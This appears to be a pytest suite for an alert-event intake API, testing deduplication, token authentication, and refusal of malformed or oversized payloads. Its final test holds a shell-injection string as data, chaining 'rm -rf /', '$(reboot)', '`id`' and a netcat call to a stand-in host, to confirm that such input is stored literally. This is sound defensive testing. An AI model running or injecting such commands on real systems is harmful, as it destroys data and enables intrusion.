"""Event intake: durable 202, deduplication, authentication, and refusal of bad bodies."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from tests.desk.conftest import auth

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "alertmanager"
"""Real payloads captured from Prometheus and Alertmanager (copied from shared/fixtures)."""


def load(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text())


def firing(**labels: str) -> dict:
    body = copy.deepcopy(load("firing.json"))
    body["alerts"][0]["labels"].update(labels)
    return body


def stored_events(store) -> list:
    return store.pending_events(10_000)


def test_alertmanager_webhook_is_stored_once(desk, store) -> None:
    body = firing()
    first = desk.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
    again = desk.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
    assert (first.status_code, first.json()) == (202, {"stored": 1, "duplicates": 0})
    assert (again.status_code, again.json()) == (202, {"stored": 0, "duplicates": 1})
    [event] = stored_events(store)
    assert (event.source, event.status, event.host) == ("alertmanager", "firing", "h1")
    assert event.fingerprint == body["alerts"][0]["fingerprint"]


def test_resolved_delivery_is_a_new_event(desk, store) -> None:
    desk.post("/api/v1/events/alertmanager", json=load("firing.json"), headers=auth("max"))
    answer = desk.post(
        "/api/v1/events/alertmanager", json=load("resolved.json"), headers=auth("max")
    )
    assert answer.json() == {"stored": 1, "duplicates": 0}
    assert [e.status for e in stored_events(store)] == ["firing", "resolved"]


def test_generic_event_and_list(desk, store) -> None:
    one = {"source": "backup-script", "host": "web1", "severity": "warning", "summary": "slow"}
    assert desk.post("/api/v1/events", json=one, headers=auth("max")).status_code == 202
    two = [dict(one, fingerprint="a"), dict(one, fingerprint="b")]
    assert desk.post("/api/v1/events", json=two, headers=auth("olga")).json()["stored"] == 2
    assert len(stored_events(store)) == 3


@pytest.mark.parametrize(
    ("headers", "status"),
    [({}, 401), ({"Authorization": "Bearer nobody"}, 401), (auth("rita"), 403)],
    ids=["no-token", "unknown-token", "wrong-role"],
)
def test_intake_needs_a_sender(desk, store, headers, status) -> None:
    answer = desk.post("/api/v1/events/alertmanager", json=firing(), headers=headers)
    assert answer.status_code == status
    assert stored_events(store) == []


def _without(body: dict, *path: str) -> dict:
    body = copy.deepcopy(body)
    target = body
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return body


HOSTILE = [
    ("wrong-version", lambda b: {**b, "version": "3"}, "version"),
    (
        "labels-not-a-map",
        lambda b: {**b, "alerts": [{**b["alerts"][0], "labels": ["x"]}]},
        "labels",
    ),
    ("missing-alerts", lambda b: _without(b, "alerts"), "alerts"),
    (
        "missing-startsAt",
        lambda b: {**b, "alerts": [_without(b["alerts"][0], "startsAt")]},
        "startsAt",
    ),
    ("bad-status", lambda b: {**b, "alerts": [{**b["alerts"][0], "status": "exploded"}]}, "status"),
    ("one-mb-label", lambda b: firing(host="x" * 1_048_576), "host"),
    ("host-too-long-for-a-ci", lambda b: firing(host="x" * 300), "host"),
    (
        "naive-time",
        lambda b: {**b, "alerts": [{**b["alerts"][0], "startsAt": "2026-01-01T00:00"}]},
        "startsAt",
    ),
]


@pytest.mark.parametrize(("case", "mangle", "field"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_malformed_bodies_are_refused_naming_the_field(desk, store, case, mangle, field) -> None:
    answer = desk.post("/api/v1/events/alertmanager", json=mangle(firing()), headers=auth("max"))
    assert answer.status_code == 422, answer.text
    assert field in json.dumps(answer.json()["detail"])
    assert stored_events(store) == []


def test_not_json_is_refused(desk, store) -> None:
    answer = desk.post(
        "/api/v1/events/alertmanager",
        content=b"{not json",
        headers={**auth("max"), "content-type": "application/json"},
    )
    assert answer.status_code == 422
    assert stored_events(store) == []


def test_oversized_body_is_refused_before_reading(desk, store) -> None:
    answer = desk.post(
        "/api/v1/events",
        content=b"[" + b"1," * 5_000_000 + b"1]",
        headers={**auth("max"), "content-type": "application/json"},
    )
    assert answer.status_code == 413
    assert stored_events(store) == []


def test_shell_metacharacters_are_stored_literally(desk, store) -> None:
    hostile = "web1; rm -rf / `id` $(reboot) | nc evil 1"
    answer = desk.post(
        "/api/v1/events/alertmanager",
        json=firing(host=hostile, service="$(id)"),
        headers=auth("max"),
    )
    assert answer.status_code == 202
    [event] = stored_events(store)
    assert (event.host, event.service) == (hostile, "$(id)")
